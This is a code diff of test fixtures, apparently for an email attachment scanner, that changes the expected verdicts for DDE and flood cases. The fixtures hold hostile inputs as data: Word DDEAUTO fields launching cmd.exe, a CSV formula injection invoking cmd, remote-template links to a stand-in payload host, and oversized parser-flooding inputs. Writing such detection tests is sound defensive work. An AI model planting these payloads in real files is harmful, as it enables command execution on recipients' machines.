@@ -120,9 +120,9 @@ def documents():
     add(174, 'remote-template', 'tagged', carry(word(paragraph('x'), relation('attachedTemplate', 'http://vector-payload.example/t.dotm', True)), 'a.docx'), payload=False)
     add(174, 'remote-frame', 'tagged', carry(word(paragraph('x'), relation('frame', 'http://vector-payload.example/f', True)), 'a.docx'), payload=False)
     field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
-    add(176, 'word-dde', 'tagged', carry(word(field), 'a.docx'), payload=False)
-    add(176, 'word-dde-in-pieces', 'tagged', carry(word(field.replace('DDEAUTO', 'DDE</w:instrText></w:r><w:r><w:instrText>AUTO')), 'a.docx'), payload=False)
-    add(176, 'csv-dde', 'tagged', carry(b"name,value\r\n=cmd|'/c calc'!A0,1\r\n", 'a.csv', 'text/csv'), payload=False)
+    add(176, 'word-dde', 'held', carry(word(field), 'a.docx'), payload=False)
+    add(176, 'word-dde-in-pieces', 'held', carry(word(field.replace('DDEAUTO', 'DDE</w:instrText></w:r><w:r><w:instrText>AUTO')), 'a.docx'), payload=False)
+    add(176, 'csv-dde', 'held', carry(b"name,value\r\n=cmd|'/c calc'!A0,1\r\n", 'a.csv', 'text/csv'), payload=False)
     part_of = lambda name, kind, root, text: (f'word/{name}.xml', f'application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml',
                                               f'<?xml version="1.0"?><w:{root} {W}>{text}</w:{root}>')
     for name, kind, root in (('header1', 'header', 'hdr'), ('footer1', 'footer', 'ftr'), ('comments', 'comments', 'comments'),
@@ -193,7 +193,7 @@ def documents():
 
 
 def floods():
-    add(187, 'one-line', 'held', mail(['Content-Type: text/plain'], 'x' * 9_000_000 + ' ' + MARK + '\r\n'))
+    add(187, 'one-line', 'found', mail(['Content-Type: text/plain'], 'x' * 9_000_000 + ' ' + MARK + '\r\n'))
     add(188, 'many-matches', 'found', mail(['Content-Type: text/plain'], (MARK + ' ') * 20000 + '\r\n'))
     top = [one for one in TOP if not one.startswith('From:')]
     add(189, 'comments', 'refused', mail(['Content-Type: text/plain'], 'x\r\n', top=['From: ' + '(' * 1_000_000 + ' sender@outside.example'] + top), payload=False)
